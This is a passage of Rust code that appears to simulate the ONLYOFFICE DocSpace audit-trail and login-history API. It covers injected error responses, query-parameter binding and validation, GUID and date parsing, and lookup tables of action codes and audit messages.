        "   at ASC.Web.Api.Controllers.SecurityController.DemandBaseAuditPermission()\n   at ASC.Web.Api.Controllers.SecurityController.{}",
        route.method_name()
    );
    error_response(
        StatusCode::PAYMENT_REQUIRED,
        "Your pricing plan does not support this option",
        Some("ASC.Core.Billing.BillingException"),
        Some(&stack),
        -2_146_233_088,
    )
}

/// The innermost frames of an injected 500.
const LOGIN_REPOSITORY_FRAMES: &str = "   at ASC.AuditTrail.Repositories.LoginEventsRepository.GetByFilterAsync(Guid userId, MessageAction action, Nullable`1 fromDate, Nullable`1 to, Int32 startIndex, Int32 limit)";

/// The innermost frames of the 500 of a login row with a NULL ip (§14.4).
const NULL_IP_FRAMES: &str = "   at ASC.AuditTrail.Models.Mappings.EventTypeConverter.Convert(LoginEventQuery source, LoginEvent dest, Boolean limitedActionText)\n   at ASC.AuditTrail.Repositories.LoginEventsRepository.GetByFilterAsync(Nullable`1 login, Nullable`1 action, Nullable`1 fromDate, Nullable`1 to, Int32 startIndex, Int32 limit, Boolean limitedActionText)";

/// The innermost frames of the 500 of an audit row whose action no mapper knows (§14.5).
const UNMAPPED_ACTION_FRAMES: &str = "   at ASC.Web.Api.ApiModel.ResponseDto.AuditEventDto..ctor(AuditEvent auditEvent, AuditActionMapper auditActionMapper, ApiDateTimeHelper apiDateTimeHelper)";

/// A 500 `System.NullReferenceException` envelope, its stack `frames` then the action of `route`.
fn null_reference(frames: &str, route: Route) -> Response {
    let stack = format!(
        "{frames}\n   at ASC.Web.Api.Controllers.{}.{}",
        route.controller(),
        route.method_name()
    );
    error_response(
        StatusCode::INTERNAL_SERVER_ERROR,
        "Object reference not set to an instance of an object.",
        Some("System.NullReferenceException"),
        Some(&stack),
        -2_147_467_261,
    )
}

fn server_error(status: StatusCode, route: Route) -> Response {
    if status == StatusCode::INTERNAL_SERVER_ERROR {
        null_reference(LOGIN_REPOSITORY_FRAMES, route)
    } else {
        // CustomHttpException-style: no stack, type and stack written as null.
        error_response(
            status,
            status.canonical_reason().unwrap_or("Error"),
            None,
            None,
            0,
        )
    }
}

fn bad_gateway_html() -> Response {
    let body = "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n";
    let mut resp = Response::new(Body::from(body));
    *resp.status_mut() = StatusCode::BAD_GATEWAY;
    resp.headers_mut()
        .insert(header::CONTENT_TYPE, HeaderValue::from_static("text/html"));
    resp
}

fn malformed() -> Response {
    json_response(
        StatusCode::OK,
        "<!DOCTYPE html><html><head><title>ONLYOFFICE DocSpace</title></head><body>Loading\u{2026}</body></html>"
            .to_owned(),
    )
}

/// Cuts a success body in the middle of its `response` array.
fn truncate_body(body: String) -> String {
    let start = body
        .find("\"response\":[")
        .map_or(0, |i| i + "\"response\":[".len());
    let end = body.rfind("],\"count\"").unwrap_or(body.len());
    let mut cut = if end > start {
        start + (end - start) / 2
    } else {
        start
    };
    while cut > 0 && !body.is_char_boundary(cut) {
        cut -= 1;
    }
    body[..cut].to_owned()
}

// ---------------------------------------------------------------------------------------------
// Query binding (ASP.NET Core model binding as the portal does it)
// ---------------------------------------------------------------------------------------------

/// Bound and validated filter parameters.
#[derive(Debug)]
struct FilterParams {
    user_id: Option<String>,
    action: Option<i32>,
    from: Option<OffsetDateTime>,
    to: Option<OffsetDateTime>,
    count: usize,
    start_index: usize,
    module_type: Option<i32>,
    action_type: Option<i32>,
    entry_type: Option<i32>,
    target: Option<String>,
}

impl FilterParams {
    fn parse(
        query: &str,
        audit: bool,
        local: Option<UtcOffset>,
    ) -> Result<FilterParams, BTreeMap<String, Vec<String>>> {
        let pairs = parse_query(query);
        let get = |name: &str| {
            pairs
                .iter()
                .find(|(k, _)| k.eq_ignore_ascii_case(name))
                .map(|(_, v)| v.as_str())
        };
        let mut errors: BTreeMap<String, Vec<String>> = BTreeMap::new();
        let mut err = |key: &str, msg: String| errors.entry(key.to_owned()).or_default().push(msg);

        let mut p = FilterParams {
            user_id: None,
            action: None,
            from: None,
            to: None,
            count: 100,
            start_index: 0,
            module_type: None,
            action_type: None,
            entry_type: None,
            target: None,
        };

        if let Some(v) = get("userId").filter(|v| !v.is_empty()) {
            match parse_guid(v) {
                Some(g) if g == "00000000-0000-0000-0000-000000000000" => {}
                Some(g) => p.user_id = Some(g),
                None => err("userId", format!("The value '{v}' is not valid.")),
            }
        }
        if let Some(v) = get("action").filter(|v| !v.is_empty()) {
            match parse_enum(v, message_action_by_name, message_action_defined) {
                Some(-1) => {}
                Some(a) => p.action = Some(a),
                None => err("action", format!("The value '{v}' is invalid.")),
            }
        }
        for (key, slot) in [("from", &mut p.from), ("to", &mut p.to)] {
            if let Some(v) = get(key).filter(|v| !v.is_empty()) {
                match parse_api_date(v) {
                    Some((d, Some(zone))) => *slot = Some(d.assume_offset(zone)),
                    Some((d, None)) => match local {
                        Some(zone) => *slot = Some(d.assume_offset(zone)),
                        // v3.7.1+: the converter's null `TenantManager` throws a
                        // NullReferenceException, which the binder reports without a message
                        // (ASP.NET Core's default text) [inferred].
                        None => err(key, "The input was not valid.".to_owned()),
                    },
                    None => err(key, format!("The value '{v}' is not valid.")),
                }
            }
        }
        if let Some(v) = get("count") {
            match v.trim().parse::<i32>() {
                Ok(n) if (1..=100).contains(&n) => p.count = usize::try_from(n).unwrap_or(100),
                Ok(_) => err(
                    "count",
                    "The field Count must be between 1 and 100.".to_owned(),
                ),
                Err(_) => err("count", format!("The value '{v}' is not valid.")),
            }
        }
        if let Some(v) = get("startIndex") {
            match v.trim().parse::<i32>() {
                Ok(n) => p.start_index = usize::try_from(n.max(0)).unwrap_or(0),
                Err(_) => err("startIndex", format!("The value '{v}' is not valid.")),
            }
        }
        if audit {
            if let Some(v) = get("moduleType").filter(|v| !v.is_empty()) {
                match parse_enum(
                    v,
                    |n| table_by_name(LOCATION_TYPES, n),
                    |n| table_defined(LOCATION_TYPES, n),
                ) {
                    Some(m) => p.module_type = Some(m),
                    None => err("moduleType", format!("The value '{v}' is invalid.")),
                }
            }
            if let Some(v) = get("actionType").filter(|v| !v.is_empty()) {
                match parse_enum(
                    v,
                    |n| table_by_name(ACTION_TYPES, n),
                    |n| table_defined(ACTION_TYPES, n),
                ) {
                    Some(t) => p.action_type = Some(t),
                    None => err("actionType", format!("The value '{v}' is invalid.")),
                }
            }
            if let Some(v) = get("entryType").filter(|v| !v.is_empty()) {
                match parse_enum(
                    v,
                    |n| table_by_name(ENTRY_TYPES, n),
                    |n| table_defined(ENTRY_TYPES, n),
                ) {
                    Some(e) => p.entry_type = Some(e),
                    None => err("entryType", format!("The value '{v}' is invalid.")),
                }
            }
            p.target = get("target").filter(|v| !v.is_empty()).map(str::to_owned);
        }
        if errors.is_empty() {
            Ok(p)
        } else {
            Err(errors)
        }
    }

    /// Whether only `from`/`to` can reject a row (so the matches of a date range are the
    /// range itself).
    fn dates_only(&self) -> bool {
        self.user_id.is_none()
            && self.action.is_none()
            && self.module_type.unwrap_or(0) == 0
            && self.action_type.unwrap_or(0) == 0
            && (self.entry_type.unwrap_or(0) == 0 || self.target.is_none())
    }

    fn matches(&self, ev: &SimEvent) -> bool {
        if self
            .user_id
            .as_ref()
            .is_some_and(|u| !ev.user_id.eq_ignore_ascii_case(u))
        {
            return false;
        }
        if self.from.is_some_and(|f| ev.date < f) || self.to.is_some_and(|t| ev.date > t) {
            return false;
        }
        let joined_target = || ev.target.as_ref().map(|t| t.join(",")).unwrap_or_default();
        match self.action {
            Some(a) => {
                if ev.action_id != a {
                    return false;
                }
                match &self.target {
                    Some(t) if ev.stream == SimStream::Audit => joined_target() == *t,
                    _ => true,
                }
            }
            None if ev.stream == SimStream::Audit => {
                if self.module_type.is_some_and(|m| m != 0 && ev.location != m) {
                    return false;
                }
                if self
                    .action_type
                    .is_some_and(|t| t != 0 && ev.action_type != t)
                {
                    return false;
                }
                match (self.entry_type, &self.target) {
                    (Some(e), Some(t)) if e != 0 => joined_target().contains(t.as_str()),
                    _ => true,
                }
            }
            None => true,
        }
    }
}

/// Splits a raw query into decoded `(name, value)` pairs (`+` → space, `%XX` → byte; invalid
/// escapes stay literal, as in ASP.NET Core).
fn parse_query(query: &str) -> Vec<(String, String)> {
    query
        .split('&')
        .filter(|s| !s.is_empty())
        .map(|pair| {
            let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
            (percent_decode(k), percent_decode(v))
        })
        .collect()
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            b'%' => match (
                bytes.get(i + 1).copied().and_then(hex_val),
                bytes.get(i + 2).copied().and_then(hex_val),
            ) {
                (Some(hi), Some(lo)) => {
                    out.push(hi * 16 + lo);
                    i += 3;
                }
                _ => {
                    out.push(b'%');
                    i += 1;
                }
            },
            b => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

/// `System.Guid` parsing: `D` (hyphenated), `N` (32 digits), `B` `{..}` and `P` `(..)` forms.
fn parse_guid(s: &str) -> Option<String> {
    let t = s.trim();
    let inner = t
        .strip_prefix('{')
        .and_then(|x| x.strip_suffix('}'))
        .or_else(|| t.strip_prefix('(').and_then(|x| x.strip_suffix(')')))
        .unwrap_or(t);
    let b = inner.as_bytes();
    let hex: String = if b.len() == 36 {
        if [8, 13, 18, 23].iter().any(|&i| b[i] != b'-') {
            return None;
        }
        inner.chars().filter(|&c| c != '-').collect()
    } else if b.len() == 32 {
        inner.to_owned()
    } else {
        return None;
    };
    if hex.len() != 32 || !hex.bytes().all(|c| c.is_ascii_hexdigit()) {
        return None;
    }
    let h = hex.to_ascii_lowercase();
    Some(format!(
        "{}-{}-{}-{}-{}",
        &h[0..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..32]
    ))
}

/// Enum binding: an integer must be a defined value; otherwise a case-insensitive member name.
fn parse_enum(
    v: &str,
    by_name: impl Fn(&str) -> Option<i32>,
    defined: impl Fn(i64) -> bool,
) -> Option<i32> {
    let t = v.trim();
    if let Ok(n) = t.parse::<i64>() {
        return if defined(n) {
            i32::try_from(n).ok()
        } else {
            None
        };
    }
    by_name(t)
}

fn digits(b: &[u8]) -> Option<u32> {
    if b.is_empty() || !b.iter().all(u8::is_ascii_digit) {
        return None;
    }
    b.iter().try_fold(0u32, |acc, d| {
        acc.checked_mul(10)?.checked_add(u32::from(d - b'0'))
    })
}

/// `ApiDateTime` parsing. Accepted: `yyyy-MM-dd`, `yyyy-MM-ddTHH:mm:ss` (or `HH-mm-ss`) with an
/// optional `.fff` or `.fffffff`, then an optional `Z` or `±hh:mm`. Returns the clock time and its
/// zone, `None` for a value without one (the caller decides what that means).
fn parse_api_date(s: &str) -> Option<(PrimitiveDateTime, Option<UtcOffset>)> {
    let b = s.as_bytes();
    if b.len() < 10 || b[4] != b'-' || b[7] != b'-' {
        return None;
    }
    let year = i32::try_from(digits(&b[0..4])?).ok()?;
    let month = Month::try_from(u8::try_from(digits(&b[5..7])?).ok()?).ok()?;
    let day = u8::try_from(digits(&b[8..10])?).ok()?;
    let date = Date::from_calendar_date(year, month, day).ok()?;
    if b.len() == 10 {
        return Some((PrimitiveDateTime::new(date, Time::MIDNIGHT), None));
    }
    if b.len() < 19 || b[10] != b'T' {
        return None;
    }
    let sep = b[13];
    if !(sep == b':' || sep == b'-') || b[16] != sep {
        return None;
    }
    let hour = u8::try_from(digits(&b[11..13])?).ok()?;
    let minute = u8::try_from(digits(&b[14..16])?).ok()?;
    let second = u8::try_from(digits(&b[17..19])?).ok()?;
    let mut i = 19;
    let mut nanos = 0u32;
    if b.get(i) == Some(&b'.') {
        let n = b[i + 1..].iter().take_while(|c| c.is_ascii_digit()).count();
        if n != 3 && n != 7 {
            return None;
        }
        let frac = digits(&b[i + 1..i + 1 + n])?;
        nanos = if n == 3 { frac * 1_000_000 } else { frac * 100 };
        i += 1 + n;
    }
    let time = Time::from_hms_nano(hour, minute, second, nanos).ok()?;
    let dt = PrimitiveDateTime::new(date, time);
    let rest = &b[i..];
    let offset = match rest {
        [] => return Some((dt, None)),
        [b'Z'] => UtcOffset::UTC,
        [sign @ (b'+' | b'-'), h1, h2, b':', m1, m2] => {
            let hh = i8::try_from(digits(&[*h1, *h2])?).ok()?;
            let mm = i8::try_from(digits(&[*m1, *m2])?).ok()?;
            if hh > 14 || mm > 59 {
                return None;
            }
            let (hh, mm) = if *sign == b'-' { (-hh, -mm) } else { (hh, mm) };
            UtcOffset::from_hms(hh, mm, 0).ok()?
        }
        _ => return None,
    };
    Some((dt, Some(offset)))
}

// ---------------------------------------------------------------------------------------------
// Vocabularies
// ---------------------------------------------------------------------------------------------

/// `ActionType` (sequential values).
const ACTION_TYPES: &[(&str, i32)] = &[
    ("None", 0),
    ("Create", 1),
    ("Update", 2),
    ("Delete", 3),
    ("Link", 4),
    ("Unlink", 5),
    ("Attach", 6),
    ("Detach", 7),
    ("Send", 8),
    ("Import", 9),
    ("Export", 10),
    ("UpdateAccess", 11),
    ("Download", 12),
    ("Upload", 13),
    ("Copy", 14),
    ("Move", 15),
    ("Reassigns", 16),
    ("Follow", 17),
    ("Unfollow", 18),
    ("Logout", 19),
];

/// `LocationType` (the `moduleType` filter and the `location` field).
const LOCATION_TYPES: &[(&str, i32)] = &[
    ("None", 0),
    ("Files", 1),
    ("Folders", 2),
    ("DocumentsSettings", 3),
    ("Rooms", 27),
    ("Settings", 29),
    ("Contacts", 30),
    ("Agents", 31),
];

/// `EntryType`.
const ENTRY_TYPES: &[(&str, i32)] = &[
    ("None", 0),
    ("File", 1),
    ("Folder", 2),
    ("User", 23),
    ("Group", 24),
    ("Room", 25),
    ("Tag", 26),
    ("Agent", 27),
];

fn table_by_name(table: &[(&str, i32)], name: &str) -> Option<i32> {
    table
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, v)| *v)
}

fn table_defined(table: &[(&str, i32)], value: i64) -> bool {
    table.iter().any(|(_, v)| i64::from(*v) == value)
}

/// Every `MessageAction` member (`common/ASC.Core.Common/Messaging/MessageAction.cs`), as
/// whitespace-separated `Name code` pairs.
const MESSAGE_ACTIONS: &str = "
None -1
LoginSuccess 1000 LoginSuccessViaSocialAccount 1001 LoginFailInvalidCombination 1002
LoginFailSocialAccountNotFound 1003 LoginFailDisabledProfile 1004 LoginFail 1005 Logout 1006
LoginSuccessViaSms 1007 LoginFailViaSms 1008 LoginFailIpSecurity 1009 LoginSuccessViaApi 1010
LoginSuccessViaSocialApp 1011 LoginSuccessViaApiSms 1012 LoginFailViaApi 1013 LoginFailViaApiSms 1014
LoginSuccessViaSSO 1015 SessionStarted 1016 SessionCompleted 1017 LoginFailViaSSO 1018
LoginSuccessViaApiSocialAccount 1019 LoginFailViaApiSocialAccount 1020 LoginSuccesViaTfaApp 1021
LoginFailViaTfaApp 1022 LoginFailBruteForce 1023 LoginSuccessViaApiTfa 1024 LoginFailViaApiTfa 1025
LoginFailRecaptcha 1026 AuthLinkActivated 1027 LoginSuccessViaOAuth 1028 LoginSuccessViaPassword 1029
UserCreated 4000 GuestCreated 4001 UserCreatedViaInvite 4002 GuestCreatedViaInvite 4003 SendJoinInvite 4037
UserActivated 4004 GuestActivated 4005 UserUpdated 4006 UserUpdatedMobileNumber 4029 UserUpdatedLanguage 4007
UserAddedAvatar 4008 UserDeletedAvatar 4009 UserUpdatedAvatarThumbnails 4010 UserLinkedSocialAccount 4011
UserUnlinkedSocialAccount 4012 UserConnectedTfaApp 4032 UserDisconnectedTfaApp 4033
UserSentActivationInstructions 4013 UserSentEmailChangeInstructions 4014 UserSentPasswordChangeInstructions 4015
UserSentDeleteInstructions 4016 UserUpdatedEmail 5047 UserUpdatedPassword 4017 UserDeleted 4018
UsersUpdatedType 4019 UsersUpdatedStatus 4020 UsersSentActivationInstructions 4021 UsersDeleted 4022
SentInviteInstructions 4023 UserImported 4024 GuestImported 4025 GroupCreated 4026 GroupUpdated 4027
GroupDeleted 4028 UserDataReassigns 4030 UserDataRemoving 4031 UserLogoutActiveConnections 4034
UserLogoutActiveConnection 4035 UserLogoutActiveConnectionsForUser 4036
FileCreated 5000 FileRenamed 5001 FileUpdated 5002 UserFileUpdated 5034 FileCreatedVersion 5003
FileDeletedVersion 5004 FileRestoreVersion 5044 FileUpdatedRevisionComment 5005 FileLocked 5006
FileUnlocked 5007 FileUpdatedAccess 5008 FileUpdatedAccessFor 5068 FileSendAccessLink 5036
FileOpenedForChange 5054 FileRemovedFromList 5058 FileExternalLinkAccessUpdated 5060 FileDownloaded 5009
FileDownloadedAs 5010 FileRevisionDownloaded 5062 FileUploaded 5011 FileImported 5012
FileUploadedWithOverwriting 5099 FileCopied 5013 FileCopiedWithOverwriting 5014 FileMoved 5015
FileMovedWithOverwriting 5016 FileMovedToTrash 5017 FileDeleted 5018 FileVersionRemoved 5119
FileIndexChanged 5111 FileCustomFilterEnabled 5120 FileCustomFilterDisabled 5121 FolderCreated 5019
FolderRenamed 5020 FolderUpdatedAccess 5021 FolderUpdatedAccessFor 5066 FolderCopied 5022
FolderCopiedWithOverwriting 5023 FolderMoved 5024 FolderMovedWithOverwriting 5025 FolderMovedToTrash 5026
FolderDeleted 5027 FolderRemovedFromList 5059 FolderIndexChanged 5107 FolderIndexReordered 5108
FolderDownloaded 5057 FormSubmit 6046 FormOpenedForFilling 6047 ThirdPartyCreated 5028 ThirdPartyUpdated 5029
ThirdPartyDeleted 5030 DocumentsThirdPartySettingsUpdated 5031 DocumentsOverwritingSettingsUpdated 5032
DocumentsForcesave 5049 DocumentsStoreForcesave 5048 DocumentsUploadingFormatsSettingsUpdated 5033
DocumentsExternalShareSettingsUpdated 5069 DocumentsKeepNewFileNameSettingsUpdated 5083
DocumentsDisplayFileExtensionUpdated 5101 DocumentsShowQuickActionsUpdated 5207 FileConverted 5035
FileChangeOwner 5043 DocumentSignComplete 5046 DocumentSendToSign 5045 FileMarkedAsFavorite 5055
FileRemovedFromFavorite 5056 FileMarkedAsRead 5063 FileReaded 5064 TrashEmptied 5061 FolderMarkedAsRead 5065
RoomCreated 5070 RoomRenamed 5071 RoomArchived 5072 RoomUnarchived 5073 RoomDeleted 5074 RoomCopied 5100
RoomUpdateAccessForUser 5075 RoomRemoveUser 5084 RoomCreateUser 5085 RoomInvitationLinkUpdated 5082
RoomInvitationLinkCreated 5086 RoomInvitationLinkDeleted 5087 RoomGroupAdded 5094
RoomUpdateAccessForGroup 5095 RoomGroupRemove 5096 TagCreated 5076 TagsDeleted 5077 AddedRoomTags 5078
DeletedRoomTags 5079 RoomLogoCreated 5080 RoomLogoDeleted 5081 RoomColorChanged 5102 RoomCoverChanged 5103
RoomIndexingChanged 5104 RoomDenyDownloadChanged 5105 RoomExternalLinkCreated 5088
RoomExternalLinkUpdated 5089 RoomExternalLinkDeleted 5090 RoomExternalLinkRevoked 5097
RoomExternalLinkRenamed 5098 FileExternalLinkCreated 5091 FileExternalLinkUpdated 5092
FileExternalLinkDeleted 5093 FolderExternalLinkCreated 5122 FolderExternalLinkUpdated 5123
FolderExternalLinkDeleted 5124 RoomIndexingEnabled 5114 RoomIndexingDisabled 5115 RoomLifeTimeSet 5116
RoomLifeTimeDisabled 5117 RoomDenyDownloadEnabled 5109 RoomDenyDownloadDisabled 5110 RoomWatermarkSet 5112
RoomWatermarkDisabled 5113 RoomInviteResend 5118 RoomIndexExportSaved 5106 FormStartedToFill 5150
FormPartiallyFilled 5151 FormCompletelyFilled 5152 FormStopped 5153 AgentCreated 5154 AgentRenamed 5155
AgentDeleted 5156 AddedServerToAgent 5157 DeletedServerFromAgent 5158 RoomChangeOwner 5159
DocumentsDefaultTemplatesSettingsUpdated 5160 PrivacyRoomKeyCreated 5161 PrivacyRoomKeyUpdated 5162
PrivacyRoomKeyDeleted 5163 FileSavedButUserQuotaExceeded 5201 FileNotSavedDueToUserQuota 5202
FileSavedButRoomQuotaExceeded 5203 FileNotSavedDueToRoomQuota 5204 FileSavedButTenantQuotaExceeded 5205
FileNotSavedDueToTenantQuota 5206
LanguageSettingsUpdated 6000 TimeZoneSettingsUpdated 6001 DnsSettingsUpdated 6002
TrustedMailDomainSettingsUpdated 6003 PasswordStrengthSettingsUpdated 6004
TwoFactorAuthenticationSettingsUpdated 6005 AdministratorMessageSettingsUpdated 6006
DefaultStartPageSettingsUpdated 6007 ProductsListUpdated 6008 AdministratorAdded 6009
AdministratorOpenedFullAccess 6010 AdministratorDeleted 6011 UsersOpenedProductAccess 6012
GroupsOpenedProductAccess 6013 ProductAccessOpened 6014 ProductAccessRestricted 6015
ProductAddedAdministrator 6016 ProductDeletedAdministrator 6017 GreetingSettingsUpdated 6018
TeamTemplateChanged 6019 ColorThemeChanged 6020 OwnerSentChangeOwnerInstructions 6021 OwnerUpdated 6022
OwnerSentPortalDeactivationInstructions 6023 OwnerSentPortalDeleteInstructions 6024 PortalDeactivated 6025
PortalDeleted 6026 LoginHistoryReportDownloaded 6027 AuditTrailReportDownloaded 6028 SSOEnabled 6029
SSODisabled 6030 PortalAccessSettingsUpdated 6031 CookieSettingsUpdated 6032 MailServiceSettingsUpdated 6033
CustomNavigationSettingsUpdated 6034 AuditSettingsUpdated 6035 TwoFactorAuthenticationDisabled 6036
TwoFactorAuthenticationEnabledBySms 6037 TwoFactorAuthenticationEnabledByTfaApp 6038 PortalRenamed 6039
QuotaPerRoomChanged 6040 QuotaPerRoomDisabled 6041 QuotaPerUserChanged 6042 QuotaPerUserDisabled 6043
QuotaPerPortalChanged 6044 QuotaPerPortalDisabled 6045 CustomQuotaPerRoomDefault 6048
CustomQuotaPerRoomChanged 6049 CustomQuotaPerRoomDisabled 6050 CustomQuotaPerUserDefault 6051
CustomQuotaPerUserChanged 6052 CustomQuotaPerUserDisabled 6053 DevToolsAccessSettingsChanged 6054
WebhookCreated 6055 WebhookUpdated 6056 WebhookDeleted 6057 ApiKeyCreated 6058 ApiKeyUpdated 6059
ApiKeyDeleted 6060 DocumentServiceLocationSetting 5037 AuthorizationKeysSetting 5038
FullTextSearchSetting 5039 StartTransferSetting 5040 BackupStarted 5041 BackupCompleted 5125
BackupFailed 5126 ScheduledBackupStarted 5127 ScheduledBackupCompleted 5128 ScheduledBackupFailed 5129
ScheduledBackupDeleted 5130 BackupCancelled 5131 RestoreStarted 5132 RestoreCancelled 5133
LicenseKeyUploaded 5042 StartStorageEncryption 5050 StartStorageDecryption 5053
CustomerWalletToppedUp 6061 CustomerOperationPerformed 6062 CustomerOperationsReportDownloaded 6063
CustomerWalletTopUpSettingsUpdated 6064 CustomerSubscriptionUpdated 6065 BannerSettingsChanged 6066
CustomerWalletServicesSettingsUpdated 6067 QuotaPerAiAgentChanged 6068 QuotaPerAiAgentDisabled 6069
CustomQuotaPerAiAgentDefault 6070 CustomQuotaPerAiAgentChanged 6071 CustomQuotaPerAiAgentDisabled 6072
AIProviderCreated 6073 AIProviderUpdated 6074 AIProviderDeleted 6075 ServerCreated 6076 ServerUpdated 6077
ServerEnabled 6078 ServerDisabled 6079 ServerDeleted 6080 SetWebSearchSettings 6081
ResetWebSearchSettings 6082 SetVectorizationSettings 6083 ResetVectorizationSettings 6084
WebpluginUploaded 6085 WebpluginUpdated 6086 WebpluginDeleted 6087 WhiteLabelSettingsLogoTextUpdated 6088
WhiteLabelSettingsLogosUpdated 6089 WhiteLabelCompanySettingsUpdated 6090
WhiteLabelAdditionalSettingsUpdated 6091 WhiteLabelMailSettingsUpdated 6092 InvitationSettingsUpdated 6093
IPRestrictionsSettingsUpdated 6094 LoginSettingsUpdated 6095 AIDefaultProviderSet 6096 AIAccessEnabled 6097
AIAccessDisabled 6098 UserUpdatedAiSettings 6099 SubscriptionBalanceMovedToWallet 6100
DocsCloudConfigUpdated 6101 DocsCloudQuotaReportDownloaded 6102 AiProfileCreated 6103 AiProfileUpdated 6104
AiProfileDeleted 6105 AiProfileAssigned 6106 AiProfileUnassigned 6107 AiAgentProfileAssigned 6108
UpdatedServerOfAgent 6109
ContactAdminMailSent 7000 RoomInviteLinkUsed 7001 UserCreatedAndAddedToRoom 7002
GuestCreatedAndAddedToRoom 7003 ContactSalesMailSent 7004 SuspiciousLoginDetected 7005
CreateClient 9901 UpdateClient 9902 RegenerateSecret 9903 DeleteClient 9904 ChangeClientActivation 9905
ChangeClientVisibility 9906 RevokeUserClient 9907 GenerateAuthorizationCodeToken 9908
GeneratePersonalAccessToken 9909 MetadataTemplateCreated 9910 MetadataTemplateUpdated 9911
MetadataTemplateDeleted 9912 MetadataFieldCreated 9913 MetadataFieldUpdated 9914 MetadataFieldDeleted 9915
MetadataTemplateAssigned 9916 MetadataTemplateUnassigned 9917 MetadataValuesUpdated 9918
MetadataCascadeStarted 9919 LdapEnabled 5501 LdapDisabled 5502 LdapSync 5503
";

fn message_actions() -> impl Iterator<Item = (&'static str, i32)> {
    let mut it = MESSAGE_ACTIONS.split_whitespace();
    std::iter::from_fn(move || {
        let name = it.next()?;
        let code = it.next()?.parse().ok()?;
        Some((name, code))
    })
}

fn message_action_by_name(name: &str) -> Option<i32> {
    message_actions()
        .find(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, c)| c)
}

fn message_action_defined(code: i64) -> bool {
    message_actions().any(|(_, c)| i64::from(c) == code)
}

/// English `action` texts of the login codes (`AuditReportResource.resx`).
const LOGIN_TEXTS: &[(i32, &str)] = &[
    (1000, "Login Success"),
    (1001, "Login Via Social Account Success"),
    (1002, "Login Fail. Invalid username-password combination"),
    (1003, "Login Fail. Associated Social Account Not Found"),
    (1004, "Login Fail. Profile Disabled"),
    (1005, "Login Fail"),
    (1006, "Logout"),
    (1007, "Login via SMS successful"),
    (1008, "Login via SMS failed"),
    (1009, "IP Security: Login Failed"),
    (1010, "Successful Login via API"),
    (1011, "Successful login via social application"),
    (1012, "Successful Login via API & SMS Code"),
    (1013, "Failed Login via API"),
    (1014, "Failed Login via API & SMS Code"),
    (1015, "Successful Login via SSO"),
    (1016, "Session Started"),
    (1017, "Session Completed"),
    (1018, "Login via SSO Failed"),
    (1019, "Login Via Social Account Success: {0}"),
    (1020, "Login via API & Social Media Failed"),
    (1021, "Successful Login via authenticator application"),
    (1022, "Login via authenticator application Failed"),
    (1023, "Login Fail. Too many attempts"),
    (1024, "Successful Login via API & authenticator application"),
    (1025, "Failed Login via API & authenticator application"),
    (1026, "Login Fail. Recaptcha is invalid"),
    (1027, "The authorization link has been activated"),
    (1028, "Successful Login via OAuth 2.0"),
    (1029, "Login success via login and password"),
];

fn login_text(code: i32) -> &'static str {
    LOGIN_TEXTS
        .iter()
        .find(|(c, _)| *c == code)
        .map_or("", |(_, t)| *t)
}

/// Login codes that the builders treat as failures (Guest GUID, `login` = typed name).
fn is_login_failure(code: i32) -> bool {
    matches!(
        code,
        1002..=1005 | 1008 | 1009 | 1013 | 1014 | 1018 | 1020 | 1022 | 1023 | 1025 | 1026
    )
}

/// One audit action mapping (`Mappers/*.cs` and the resx text).
#[derive(Debug)]
struct AuditMap {
    code: i32,
    template: &'static str,
    action_type: i32,
    product: i32,
    location: i32,
    entries: &'static [i32],
}

const AUDIT_MAPS: &[AuditMap] = &[
    AuditMap {
        code: 5000,
        template: "File Created: {0}",
        action_type: 1,
        product: 2,
        location: 1,
        entries: &[1],
    },
    AuditMap {
        code: 5002,
        template: "File Updated: {0}",
        action_type: 2,
        product: 2,
        location: 1,
        entries: &[1],
    },
    AuditMap {
        code: 5008,
        template: "Files [{0}]. Access Updated",
        action_type: 11,
        product: 2,
        location: 1,
        entries: &[1],
    },
    AuditMap {
        code: 5009,
        template: "File Downloaded: {0}",
        action_type: 12,
        product: 2,
        location: 1,
        entries: &[1],
    },
    AuditMap {
        code: 5011,
        template: "File Uploaded: {0}",
        action_type: 13,
        product: 2,
        location: 1,
        entries: &[1],
    },
    AuditMap {
        code: 5017,
        template: "Files [{0}]. Moved To Trash Folder",
        action_type: 15,
        product: 2,
        location: 1,
        entries: &[1],
    },
    AuditMap {
        code: 5018,
        template: "File Deleted: {0}",
        action_type: 3,
        product: 2,
        location: 1,
        entries: &[1],
    },
    AuditMap {
        code: 5019,
        template: "Folder Created: {0}",
        action_type: 1,
        product: 2,
        location: 2,
        entries: &[2],
    },
    AuditMap {
        code: 5070,
        template: "Room created",
        action_type: 1,
        product: 2,
        location: 27,
        entries: &[25],
    },
    AuditMap {
        code: 4000,
        template: "User Created: {0}",
        action_type: 1,
        product: 8,
        location: 30,
        entries: &[23],
    },
    AuditMap {
        code: 4006,
        template: "User Updated: {0}",
        action_type: 2,
        product: 8,
        location: 30,
        entries: &[23],
    },
    AuditMap {
        code: 4018,
        template: "User Deleted: {0}",
        action_type: 3,
        product: 8,
        location: 30,
        entries: &[23],
    },
    AuditMap {
        code: 6027,
        template: "Login History Report Downloaded",
        action_type: 12,
        product: 7,
        location: 29,
        entries: &[],
    },
    AuditMap {
        code: 6028,
        template: "Audit Trail Report Downloaded",
        action_type: 12,
        product: 7,
        location: 29,
        entries: &[],
    },
    AuditMap {
        code: 6035,
        template: "Audit Lifetime Settings Updated",
        action_type: 2,
        product: 7,
        location: 29,
        entries: &[],
    },
];

fn audit_map(code: i32) -> Option<&'static AuditMap> {
    AUDIT_MAPS.iter().find(|m| m.code == code)
}

/// Fills `{0}` like the server: the raw value is split on `,` and re-joined with `", "`.
